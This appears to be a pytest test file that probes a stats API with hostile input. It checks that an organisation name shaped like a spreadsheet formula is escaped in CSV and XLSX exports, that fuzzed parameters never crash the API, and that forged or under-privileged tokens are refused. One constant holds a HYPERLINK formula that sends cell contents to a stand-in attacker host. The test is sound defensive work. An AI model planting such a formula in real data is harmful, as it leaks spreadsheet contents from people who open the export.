"""Hostile input to the stats API: formulas in names, odd parameters, callers without the role."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from tests.factories import auth_header, make_org, make_token, make_user

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


@pytest.fixture
def admin(hub):
    make_user(hub, email="admin@example.cn", admin=True)
    return auth_header(make_token(hub, "admin@example.cn"))


def _visit_as_member_of(client, hub, code: str, name: str) -> None:
    make_org(hub, code=code, kind="school", region="640104", name=name)
    make_user(hub, email=f"{code}@example.cn", org=code, role="teacher")
    token = make_token(hub, f"{code}@example.cn")
    client.get("/api/v1/resources?q=数学", headers={**auth_header(token), "User-Agent": "Mozilla"})
    hub.stats.refresh()


def test_an_organisation_named_like_a_formula_is_text_in_csv_and_xlsx(client, hub, admin):
    _visit_as_member_of(client, hub, "evil", FORMULA)
    url = "/api/v1/stats/usage?event=search&by=org"
    text = client.get(url + "&format=csv", headers=admin).get_data(as_text=True)
    table = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert table[1][:2] == ["evil", "'" + FORMULA]
    book = openpyxl.load_workbook(io.BytesIO(client.get(url + "&format=xlsx", headers=admin).data))
    cell = book.active.cell(row=2, column=2)
    assert cell.data_type == "s" and cell.value == "'" + FORMULA


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    name=st.sampled_from(["event", "by", "from", "to", "region", "org", "min"]),
    value=st.text(max_size=40),
)
@example(name="org", value="\x00")
@example(name="from", value="2026-02-30")
@example(name="by", value="stage,stage")
@example(name="min", value="²")
def test_any_parameter_gets_an_answer_or_a_400_never_a_crash(client, admin, name, value):
    path = "coverage" if name == "min" else "usage"
    response = client.get(f"/api/v1/stats/{path}", query_string={name: value}, headers=admin)
    assert response.status_code in (200, 400)
    assert response.is_json and ("rows" in response.json or "message" in response.json)


def test_a_forged_token_or_a_teacher_cannot_read_usage(client, hub):
    make_org(hub, code="s1", kind="school", region="640104", name="学校")
    make_user(hub, email="t@example.cn", org="s1", role="teacher")
    teacher = auth_header(make_token(hub, "t@example.cn"))
    forged = auth_header("ehub_" + "x" * 40)
    assert client.get("/api/v1/stats/regions", headers=forged).status_code == 401
    assert client.get("/api/v1/stats/regions", headers=teacher).status_code == 403
    assert client.get("/api/v1/stats/usage?format=csv", headers=teacher).status_code == 403
